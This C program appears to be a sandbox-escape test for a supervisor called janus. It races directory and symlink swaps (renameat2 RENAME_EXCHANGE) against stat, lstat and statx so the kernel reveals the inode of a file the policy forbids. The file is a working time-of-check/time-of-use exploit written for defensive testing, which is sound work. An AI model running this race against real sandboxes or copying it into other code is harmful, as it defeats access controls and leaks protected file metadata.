/* e0211-stat-swap - the directory-component swap of e0202, against the
 * calls that only look: stat, lstat and statx.
 *
 * Attack: "e0211-d" is a real directory holding a decoy named like the
 * secret, "e0211-s" a symbolic link to the secret's directory; two
 * threads swap the two names (renameat2 RENAME_EXCHANGE) while another
 * looks at "e0211-d/NAME" again and again.  The supervisor checks the
 * path while e0211-d is the directory; the kernel may walk it when
 * e0211-d is the symlink, and show the metadata of a file the policy
 * refuses even to stat: its inode number, size, owner, times.  The first
 * inode seen that is not the decoy's is printed as "inode=N;", and the
 * driver looks for the secret's.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races on path
 * components), applied to the calls that only look.  Contained by janus's
 * pinned directories, which these calls get where a member could swap a
 * name on their way (doc/races.md, section 2).
 * Usage: e0211-stat-swap SECRET */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

#define SWAPPERS 2

/* The inode the kernel showed for path, by the i-th way of looking. */
static int look(int i, const char *path, unsigned long *ino)
{
	struct stat st;
	int r;
	switch (i % 3) {
	case 0:
		r = stat(path, &st);
		break;
	case 1:
		r = lstat(path, &st);
		break;
	default: {
		struct statx sx;
		r = statx(AT_FDCWD, path, 0, STATX_INO, &sx);
		st.st_ino = sx.stx_ino;
		break;
	}
	}
	*ino = (unsigned long)st.st_ino;
	return r;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0211-stat-swap SECRET");
	char decoy[PATH_MAX * 2];
	struct esc_swap w;
	esc_swap_make(&w, "e0211", argv[1], "decoy\n", decoy, sizeof decoy);
	struct stat own;
	if (stat(decoy, &own) < 0)
		esc_die(decoy);
	esc_swap_start(&w, SWAPPERS);
	struct esc_race r;
	long seen = 0, refused = 0, other = 0;
	esc_race_init(&r);
	while (!other && esc_race_go(&r)) {
		unsigned long ino;
		if (look((int)r.tries, decoy, &ino) < 0) {
			refused++;
			continue;
		}
		seen++;
		if (ino == (unsigned long)own.st_ino)
			continue;
		other++;
		printf("looked through the swap: inode=%lu;\n", ino);
	}
	esc_swap_stop(&w);
	printf("stat race: %ld tries, %ld seen, %ld refused, %ld not the decoy\n", r.tries, seen,
	       refused, other);
	return 0;
}
